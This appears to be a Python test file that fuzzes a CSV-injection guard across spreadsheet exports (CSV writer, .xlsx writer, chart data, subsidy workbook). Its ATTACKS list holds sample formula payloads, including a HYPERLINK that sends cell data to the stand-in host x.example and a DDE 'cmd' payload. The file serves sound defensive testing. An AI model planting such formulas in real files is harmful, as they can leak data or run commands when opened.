"""Fuzzing the spreadsheet formula guard (OWASP "CSV injection") in every export that writes text a person
typed: the seekers' exports (CSV and .xlsx writers), the dashboard's chart data (CSV), the subsidy workbook,
the import's error workbook. No cell comes out starting with = + - @ (or tab, CR, NUL) as a formula could.
The audit log and the pipeline CSV call the same `neutralize`. Examples: tests/fuzzing.py."""

from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl
import pandas as pd
from hypothesis import example, given
from hypothesis import strategies as st

from components.charts import _csv as chart_csv
from services.core.i18n import translator
from services.reporting.exports.cells import FORMULA_TRIGGERS, QUOTE, neutralize
from services.reporting.exports.writers import CsvWriter, XlsxWriter
from services.subsidies.defaults import ensure_default_rules
from services.subsidies.report import Period, subsidy_report
from services.subsidies.workbook import report_workbook
from tests.fuzzing import fuzz, mark
from tests.subsidies.support import Employers, hire, seeker

pytestmark = mark

ATTACKS = ['=HYPERLINK("http://x.example/?"&A1,"点这里")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
           "\t=1+1", "\r=1+1", "=1+1"]
cell_text = st.one_of(st.sampled_from(ATTACKS), st.text(max_size=20),
                      st.builds(lambda t, rest: t + rest, st.sampled_from(FORMULA_TRIGGERS), st.text(max_size=12)))


def _inert(value: object) -> bool:
    return not (isinstance(value, str) and value[:1] in FORMULA_TRIGGERS)


@fuzz()
@given(cell_text)
def test_neutralize_makes_any_text_inert_and_keeps_it(text: str) -> None:
    out = neutralize(text)
    assert _inert(out) and out.endswith(text) and out in (text, QUOTE + text)
    assert neutralize(out) == out  # the guard never stacks quotes


def _csv_cells(data: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for c in row]


@fuzz(0.3)
@given(st.lists(cell_text, min_size=1, max_size=6), st.lists(st.lists(cell_text, max_size=6), max_size=5))
def test_the_export_csv_writer_neutralizes_every_cell(header: list[str], rows: list[list[str]]) -> None:
    out = io.BytesIO()
    writer = CsvWriter(out)
    writer.header(header)
    for row in rows:
        writer.row(list(row))
    writer.close()
    assert all(map(_inert, _csv_cells(out.getvalue())))


@fuzz(0.1)
@given(st.lists(st.lists(cell_text.filter(lambda t: "\x00" not in t), min_size=1, max_size=4), min_size=1,
                max_size=4))
def test_the_export_xlsx_writer_writes_text_never_a_formula(rows: list[list[str]]) -> None:
    out = io.BytesIO()
    writer = XlsxWriter(out, "x")
    writer.header(["=a", "+b", "c", "d"])
    for row in rows:
        writer.row(list(row))
    writer.close()
    book = openpyxl.load_workbook(io.BytesIO(out.getvalue()))
    cells = [c for ws in book for row in ws.iter_rows() for c in row if c.value is not None]
    assert cells and all(c.data_type != "f" and _inert(c.value) for c in cells)


@fuzz(0.2)
@given(st.lists(st.tuples(cell_text, st.integers(0, 10**6)), min_size=1, max_size=6), cell_text)
@example([("=1+1", 3)], "@x")
def test_chart_data_csv_neutralizes_names_and_headers(rows: list[tuple[str, int]], header: str) -> None:
    df = pd.DataFrame(rows, columns=[header, "n"])
    assert all(map(_inert, _csv_cells(chart_csv(df))))


def test_a_company_named_like_a_formula_is_text_in_the_subsidy_workbook(engine) -> None:
    ensure_default_rules(engine)
    world = Employers(engine)
    emp = world.add(1, name=ATTACKS[0])
    hire(engine, world, seeker(engine, 1, poor=True, name="王秀兰"), emp, start=date(2024, 3, 1), contract=13)
    report = subsidy_report(engine, Period(date(2024, 1, 1), date(2024, 12, 31)))
    book = openpyxl.load_workbook(io.BytesIO(report_workbook(report, translator("zh_CN"))))
    cells = [c for ws in book for row in ws.iter_rows() for c in row if c.value is not None]
    assert any(c.value == QUOTE + ATTACKS[0] for c in cells)
    assert all(c.data_type != "f" and _inert(c.value) for c in cells)
